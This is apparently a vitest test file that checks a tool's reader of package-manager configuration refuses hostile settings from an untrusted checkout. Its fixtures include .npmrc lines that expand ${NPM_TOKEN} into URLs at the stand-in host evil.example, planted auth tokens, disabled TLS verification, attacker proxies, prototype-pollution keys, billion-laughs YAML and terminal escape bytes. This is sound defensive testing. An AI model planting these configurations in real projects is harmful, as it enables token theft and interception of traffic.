/** What a checkout may try: everything here is under the control of whoever opened the pull request. */

import { hasClient, runClient, temporaryFolder, writeFiles } from '@assay/testkit';
import fc from 'fast-check';
import { mkdir, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { readClientConfiguration, type ClientConfiguration, type ClientConfigurationOptions } from './index.js';

type Files = Readonly<Record<string, string>>;

const npmToken = 'npm_canary0000000000000000000000000000';

async function read(
  project: Files,
  more: {
    readonly home?: Files;
    readonly env?: Readonly<Record<string, string>>;
    readonly prepare?: (project: string, home: string) => Promise<void> | void;
    readonly projectRoot?: string;
    readonly options?: Partial<ClientConfigurationOptions>;
  } = {},
): Promise<ClientConfiguration> {
  await using folder = await temporaryFolder();
  const at = (name: string) => join(folder.path, name);
  await Promise.all(['home', 'project', 'prefix'].map((name) => mkdir(at(name))));
  await writeFiles(at('home'), more.home ?? {});
  await writeFiles(at('project'), project);
  await more.prepare?.(at('project'), at('home'));
  const here = (text: string) => text.replaceAll('<project>', at('project')).replaceAll('<home>', at('home'));
  const env = Object.entries(more.env ?? {}).map(([key, value]) => [key, here(value)]);
  return await readClientConfiguration({
    env: { PREFIX: at('prefix'), NPM_TOKEN: npmToken, ...(Object.fromEntries(env) as Record<string, string>) },
    home: at('home'),
    projectRoot: here(more.projectRoot ?? '<project>'),
    policyRegistries: [],
    isPublicRegistry: () => false,
    ...more.options,
  });
}

const makePipe = (path: string) => runClient('mkfifo', [path]).then(() => undefined);

const trusted = ({ registries }: ClientConfiguration) =>
  registries.registries.filter(({ from }) => from !== 'project' && from !== 'client-default');
const proposed = ({ registries }: ClientConfiguration) =>
  registries.registries.filter(({ from }) => from === 'project').map(({ url, names }) => ({ url, names }));

describe('a checkout’s .npmrc', () => {
  test('can propose registries, which are not trusted and get no credential', async () => {
    const configuration = await read(
      { '.npmrc': 'registry=https://evil.example/npm\n@acme:registry=https://evil.example/acme/\n' },
      { home: { '.npmrc': '//evil.example/:_authToken=mine\n' } },
    );
    expect(trusted(configuration)).toEqual([]);
    expect(proposed(configuration)).toEqual([
      { url: 'https://evil.example/npm/', names: [] },
      { url: 'https://evil.example/acme/', names: ['@acme/*'] },
    ]);
    expect(configuration.credentialFor('https://evil.example/npm/x')).toBeNull();
    expect([...configuration.network.privateOrigins]).not.toContain('https://evil.example');
    expect(configuration.notes.join('\n')).toContain('https://evil.example/npm/');
    expect(configuration.notes.join('\n')).toContain('list it under `registries` in the policy');
  });

  test('GHSA-3qhv-2rgh-x77r: expands no variable, neither in URLs nor in credentials', async () => {
    const configuration = await read({
      '.npmrc':
        'registry=https://evil.example/${NPM_TOKEN}/\n@a:registry=https://${NPM_TOKEN}.evil.example/\n' +
        '//evil.example/:_authToken=${NPM_TOKEN}\nhttps-proxy=http://${NPM_TOKEN}@evil.example/\n',
    });
    expect(proposed(configuration)).toEqual([]);
    expect(JSON.stringify(configuration)).not.toContain(npmToken);
    expect(configuration.secrets).toEqual([]);
    expect(configuration.notes.join('\n')).toContain('2 registries that are ignored');
  });

  test('cannot set credentials, proxy, certificates or verification, and is told so', async () => {
    const configuration = await read({
      'evil.pem': '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n',
      '.npmrc':
        'proxy=http://evil.example:1/\nhttps-proxy=http://evil.example:1/\nnoproxy=*\ncafile=evil.pem\n' +
        'ca[]="-----BEGIN CERTIFICATE-----\\nAAAA\\n-----END CERTIFICATE-----"\nstrict-ssl=false\n' +
        '//registry.example/:_authToken=planted\n_auth=cGxhbnRlZDpwbGFudGVk\n',
    });
    const url = 'https://registry.example/';
    expect(configuration.network.proxyFor(url)).toBeNull();
    expect(configuration.network.tlsFor(url)).toEqual({ ca: [], strictSsl: true });
    expect(configuration.credentialFor(url)).toBeNull();
    expect(configuration.notes.join('\n')).toMatch(/credentials, proxy, https-proxy, noproxy, ca, cafile, strict-ssl/u);
    // Redaction must not be at the checkout's command either: it could hide any word of the report.
    expect(configuration.secrets).toEqual([]);
  });

  test('cannot move the user configuration', async () => {
    const configuration = await read({
      '.npmrc': 'userconfig=planted.npmrc\nglobalconfig=planted.npmrc\nprefix=.\n',
      'planted.npmrc': 'registry=https://evil.example/\n',
      'etc/npmrc': 'registry=https://evil.example/\n',
    });
    expect(trusted(configuration)).toEqual([]);
    expect(proposed(configuration)).toEqual([]);
  });

  test('cannot widen a scope to other names', async () => {
    const keys = ['@*', '@', '@a/*', '@a*', '@a b', `@${'a'.repeat(300)}`, '@a/../b', '@a:b'];
    const configuration = await read({
      '.npmrc': keys.map((key) => `${key}:registry=https://evil.example/\n`).join(''),
    });
    expect(proposed(configuration)).toEqual([]);
  });

  test('with __proto__ and constructor keys is read as data', async () => {
    const configuration = await read({
      '.npmrc':
        '__proto__=x\n[__proto__]\nregistry=https://evil.example/\n[constructor]\nregistry=https://evil.example/\n' +
        '[registry]\nx=1\n',
    });
    expect(proposed(configuration)).toEqual([]);
    expect(({} as Record<string, unknown>)['registry']).toBeUndefined();
  });

  test('that npm’s own parser fails on is a note', async () => {
    const configuration = await read({ '.npmrc': 'registry=https://evil.example/\na=null\n[a.b]\nx=1\n' });
    expect(proposed(configuration)).toEqual([]);
    expect(configuration.notes.join('\n')).toContain('.npmrc is not read: npm cannot parse it');
  });

  test.each([
    ['a pipe', (project: string) => makePipe(join(project, '.npmrc')), 'not a regular file'],
    ['a folder', (project: string) => mkdir(join(project, '.npmrc')).then(() => undefined), 'not a regular file'],
    ['a device', (project: string) => symlink('/dev/zero', join(project, '.npmrc')), 'leads out of the checkout'],
    ['a loop', (project: string) => symlink('.npmrc', join(project, '.npmrc')), 'form a loop'],
    ['a link to the user’s own', (p: string, h: string) => symlink(join(h, '.npmrc'), join(p, '.npmrc')), 'leads out'],
  ])('that is %s is refused at once', async (_what, prepare, why) => {
    const configuration = await read({}, { prepare, home: { '.npmrc': '@own:registry=https://own.example/\n' } });
    expect(proposed(configuration)).toEqual([]);
    expect(configuration.notes.join('\n')).toContain(why);
    expect(trusted(configuration).map(({ url }) => url)).toEqual(['https://own.example/']);
  });

  test('of 50 MB is refused without being read', async () => {
    const configuration = await read({ '.npmrc': `registry=https://evil.example/\n${'#'.repeat(50_000_000)}` });
    expect(proposed(configuration)).toEqual([]);
    expect(configuration.notes.join('\n')).toContain('larger than');
  });

  test('that names thousands of registries makes one short note', async () => {
    const lines = Array.from({ length: 5000 }, (_, i) => `@s${i}:registry=https://evil${i}.example/\n`);
    const configuration = await read({ '.npmrc': lines.join('') });
    expect(configuration.notes).toHaveLength(1);
    expect(configuration.notes.join('').length).toBeLessThan(1000);
  });

  test('cannot put terminal bytes into a note', async () => {
    const configuration = await read({
      '.npmrc': 'registry=https://evil.example/\u001b]0;x\u0007/\n@\u001b[2J:registry=https://evil.example/\n',
    });
    // eslint-disable-next-line no-control-regex
    expect(configuration.notes.join('')).not.toMatch(/[\u0000-\u001f\u007f]/u);
  });

  test('is quiet about a registry that is trusted already', async () => {
    const configuration = await read(
      { '.npmrc': 'registry=https://npm.acme.example\n' },
      { home: { '.npmrc': 'registry=https://npm.acme.example/\n' } },
    );
    expect(proposed(configuration)).toEqual([]);
    expect(configuration.notes).toEqual([]);
  });
});

describe('a package manager that starts Assay in a hostile checkout', () => {
  const beneathNpm = {
    npm_config_user_agent: 'npm/11.19.1 node/v24.0.0 linux x64 workspaces/false',
    npm_config_local_prefix: '<project>',
    npm_execpath: '/usr/lib/node_modules/npm/bin/npm-cli.js',
    npm_command: 'exec',
  };

  test.each([
    ['registry', { npm_config_registry: 'https://evil.example/' }, 'registry=https://evil.example/'],
    [
      'a key npm expands',
      { npm_config_registry: 'https://evil.example/' },
      '${NOT_SET?}registry=https://evil.example/',
    ],
    ['a key in upper case', { npm_config_registry: 'https://evil.example/' }, 'REGISTRY=https://evil.example/'],
    ['userconfig', { npm_config_userconfig: '<home>/other' }, 'userconfig=/tmp/other'],
  ])('cannot pass its %s on as the user’s', async (_what, env, npmrc) => {
    const configuration = await read(
      { '.npmrc': `${npmrc}\n` },
      { env: { ...beneathNpm, ...env }, home: { other: 'registry=https://evil.example/\n' } },
    );
    expect(trusted(configuration)).toEqual([]);
    expect(configuration.notes.join('\n')).toContain('is ignored: the package manager that started Assay');
  });

  test('cannot pass a proxy, certificates or unverified connections on', async () => {
    const configuration = await read(
      { '.npmrc': 'https-proxy=http://evil.example/\nstrict-ssl=false\ncafile=/tmp/x\n' },
      {
        env: {
          ...beneathNpm,
          npm_config_https_proxy: 'http://evil.example/',
          npm_config_strict_ssl: '',
          npm_config_cafile: '/tmp/x',
        },
      },
    );
    expect(configuration.network.proxyFor('https://registry.example/')).toBeNull();
    expect(configuration.network.tlsFor('https://registry.example/').strictSsl).toBe(true);
  });

  test('leaves the user’s own variables in force: upper case, or not said by the checkout', async () => {
    const upper = await read(
      { '.npmrc': 'registry=https://evil.example/\n' },
      { env: { ...beneathNpm, NPM_CONFIG_REGISTRY: 'https://npm.acme.example/' } },
    );
    expect(trusted(upper).map(({ url, from }) => [url, from])).toEqual([['https://npm.acme.example/', 'environment']]);
    const lower = await read({}, { env: { ...beneathNpm, npm_config_registry: 'https://npm.acme.example/' } });
    expect(trusted(lower).map(({ url }) => url)).toEqual(['https://npm.acme.example/']);
  });

  test('is not believed at all when it is not npm: nobody knows which files it read', async () => {
    const configuration = await read(
      {},
      {
        env: {
          npm_execpath: '/usr/share/yarn/bin/yarn.js',
          npm_config_user_agent: 'yarn/1.22.22 npm/? node/v24.0.0 linux x64',
          npm_config_registry: 'https://evil.example/',
        },
      },
    );
    expect(trusted(configuration)).toEqual([]);
  });

  test('looks at the folder npm took for the project, not only at the one verified', async () => {
    const configuration = await read(
      { 'app/package.json': '{}', '.npmrc': 'registry=https://evil.example/\n' },
      {
        env: { ...beneathNpm, npm_config_registry: 'https://evil.example/' },
        projectRoot: '<project>/app',
      },
    );
    expect(trusted(configuration)).toEqual([]);
  });

  test('finds no npm among the checkout’s programs', async () => {
    const configuration = await read(
      {
        'node_modules/.bin/npm-cli.js': '',
        'node_modules/npmrc': 'registry=https://evil.example/\n',
        'bin/npmrc': 'registry=https://evil.example/\n',
      },
      {
        env: { PATH: '<project>/node_modules/.bin' },
        prepare: (project) => symlink('npm-cli.js', join(project, 'node_modules/.bin/npm')).then(() => undefined),
      },
    );
    expect(trusted(configuration)).toEqual([]);
  });
});

describe('a checkout that is, or holds, the home folder', () => {
  test('has no user configuration: it cannot be told from a pull request’s', async () => {
    await using folder = await temporaryFolder();
    await writeFiles(folder.path, {
      '.npmrc': 'registry=https://evil.example/\n//evil.example/:_authToken=t\nstrict-ssl=false\n',
      '.bundle/config': 'BUNDLE_MIRROR__ALL: "https://evil.example/"\n',
      '.gemrc': ':sources:\n- https://evil.example/\n',
      '.config/pnpm/config.yaml': 'registry: https://evil.example/\n',
      'pnpm-lock.yaml': '',
    });
    const same = await readClientConfiguration({
      env: { PREFIX: join(folder.path, 'nowhere') },
      home: folder.path,
      projectRoot: folder.path,
      policyRegistries: [],
      isPublicRegistry: () => false,
    });
    expect(trusted(same)).toEqual([]);
    expect(same.network.tlsFor('https://registry.example/').strictSsl).toBe(true);
    expect(same.notes.join('\n')).toContain('npm’s user configuration lies in the checkout under test');
    expect(same.notes.join('\n')).toMatch(/Bundler’s .* lies in the checkout/u);
    expect(same.notes.join('\n')).toMatch(/RubyGems’ .* lies in the checkout/u);
    expect(same.notes.join('\n')).toMatch(/pnpm’s .* lies in the checkout/u);
  });

  test('is not followed through a symbolic link from the home folder either', async () => {
    const configuration = await read(
      { 'dotfiles/npmrc': 'registry=https://evil.example/\n' },
      { prepare: (project, home) => symlink(join(project, 'dotfiles/npmrc'), join(home, '.npmrc')) },
    );
    expect(trusted(configuration)).toEqual([]);
  });

  test.skipIf(!hasClient('mkfifo'))('does not hang on a pipe that stands for the user configuration', async () => {
    const configuration = await read(
      {},
      {
        env: { NPM_CONFIG_USERCONFIG: '<project>/pipe' },
        prepare: (project) => makePipe(join(project, 'pipe')),
      },
    );
    expect(configuration.notes.join('\n')).toContain('lies in the checkout');
  });
});

describe('a checkout’s .bundle/config', () => {
  test('can propose a mirror, and nothing else', async () => {
    const configuration = await read(
      {
        '.bundle/config':
          '---\nBUNDLE_MIRROR__HTTPS://GEMS__ACME__EXAMPLE/: "https://user:planted@evil.example/"\n' +
          'BUNDLE_EVIL__EXAMPLE: "planted:planted"\nBUNDLE_SSL_VERIFY_MODE: "0"\nBUNDLE_SSL_CA_CERT: "evil.pem"\n',
      },
      { options: { lockfileRemotes: [{ ecosystem: 'rubygems', url: 'https://gems.acme.example/' }] } },
    );
    expect(trusted(configuration)).toEqual([]);
    expect(proposed(configuration).map(({ url }) => url)).toEqual([
      'https://evil.example/',
      'https://gems.acme.example/',
    ]);
    expect(
      configuration.registries.registries.flatMap(({ from, aliases }) => (from === 'project' ? aliases : [])),
    ).toEqual([]);
    expect(configuration.credentialFor('https://evil.example/')).toBeNull();
    expect(configuration.network.tlsFor('https://registry.example/').strictSsl).toBe(true);
    expect(configuration.secrets).toEqual([]);
    expect(JSON.stringify(configuration)).not.toContain('planted');
  });

  test('is the checkout’s too when BUNDLE_APP_CONFIG points into it', async () => {
    const configuration = await read(
      { 'conf/config': 'BUNDLE_MIRROR__ALL: "https://evil.example/"\n' },
      { env: { BUNDLE_APP_CONFIG: '<project>/conf' } },
    );
    expect(trusted(configuration)).toEqual([]);
    expect(proposed(configuration).map(({ url }) => url)).toEqual(['https://evil.example/']);
  });
});

describe('a checkout’s pnpm-workspace.yaml', () => {
  test('can propose registries in both of pnpm’s shapes', async () => {
    const configuration = await read({
      'pnpm-workspace.yaml':
        'packages: [packages/*]\nregistries:\n  default: https://evil.example/npm\n  "@acme": https://evil.example/acme/\n' +
        '  https://evil.example/new/:\n    scopes: ["@new", "@two"]\n  https://index.evil.example/:\n    ecosystem: pypi\n    scopes: ["@no"]\n',
    });
    expect(trusted(configuration)).toEqual([]);
    expect(proposed(configuration)).toEqual([
      { url: 'https://evil.example/npm/', names: [] },
      { url: 'https://evil.example/acme/', names: ['@acme/*'] },
      { url: 'https://evil.example/new/', names: ['@new/*'] },
      { url: 'https://evil.example/new/', names: ['@two/*'] },
    ]);
  });

  test('can set nothing else', async () => {
    const configuration = await read({
      'pnpm-workspace.yaml':
        'httpsProxy: http://evil.example/\nstrictSsl: false\nnpmrcAuthFile: planted\nregistry: https://evil.example/${NPM_TOKEN}\n' +
        '_auth:\n  https://evil.example/: {"@": {authToken: "${NPM_TOKEN}"}}\n',
      planted: 'registry=https://evil.example/\n',
    });
    expect(trusted(configuration)).toEqual([]);
    expect(proposed(configuration)).toEqual([]);
    expect(configuration.network.proxyFor('https://x.example/')).toBeNull();
    expect(configuration.network.tlsFor('https://registry.example/').strictSsl).toBe(true);
    expect(configuration.secrets).toEqual([]);
    expect(configuration.notes.join('\n')).toContain('sets credentials, https-proxy, strict-ssl, which is ignored');
  });

  test.each([
    ['a billion laughs', 'a: &a [x,x,x]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]\nregistry: [*a'],
    ['a tag', 'registry: !!js/function "x"\n'],
    ['an unfinished line', 'registry: "https://evil.example/\n'],
  ])('with %s proposes nothing', async (_what, text) => {
    const configuration = await read({ 'pnpm-workspace.yaml': text });
    expect(proposed(configuration)).toEqual([]);
  });
});

test('a lockfile’s remotes are proposals, and their userinfo is dropped', async () => {
  const configuration = await read(
    {},
    {
      options: {
        lockfileRemotes: [
          { ecosystem: 'npm', url: 'https://user:planted@evil.example/npm/' },
          { ecosystem: 'rubygems', url: 'https://planted@evil.example/gems' },
          { ecosystem: 'rubygems', url: 'git://evil.example/' },
        ],
      },
    },
  );
  expect(proposed(configuration).map(({ url }) => url)).toEqual([
    'https://evil.example/npm/',
    'https://evil.example/gems/',
  ]);
  expect(configuration.secrets).toEqual([]);
});

test('whatever a checkout writes, it names no trusted registry and nothing throws', async () => {
  const word = fc.constantFrom(
    ...[
      'registry',
      '@a:registry',
      '//evil.example/:_authToken',
      'userconfig',
      'prefix',
      '${NPM_TOKEN}',
      '__proto__',
      '[a]',
    ],
    ...[
      'https://evil.example/',
      'BUNDLE_MIRROR__ALL',
      'registries:',
      '  default: ',
      '---',
      '=',
      ': ',
      '\n',
      '"',
      '*',
      '&a',
      '[]',
    ],
  );
  const text = fc.array(fc.oneof(word, word, word, fc.string()), { maxLength: 40 }).map((parts) => parts.join(''));
  await fc.assert(
    fc.asyncProperty(text, text, text, async (npmrc, workspace, bundle) => {
      const configuration = await read({
        '.npmrc': npmrc,
        'pnpm-workspace.yaml': workspace,
        '.bundle/config': bundle,
      });
      expect(trusted(configuration)).toEqual([]);
      expect(configuration.secrets).toEqual([]);
      expect(JSON.stringify(configuration)).not.toContain(npmToken);
    }),
    { numRuns: 60 },
  );
});
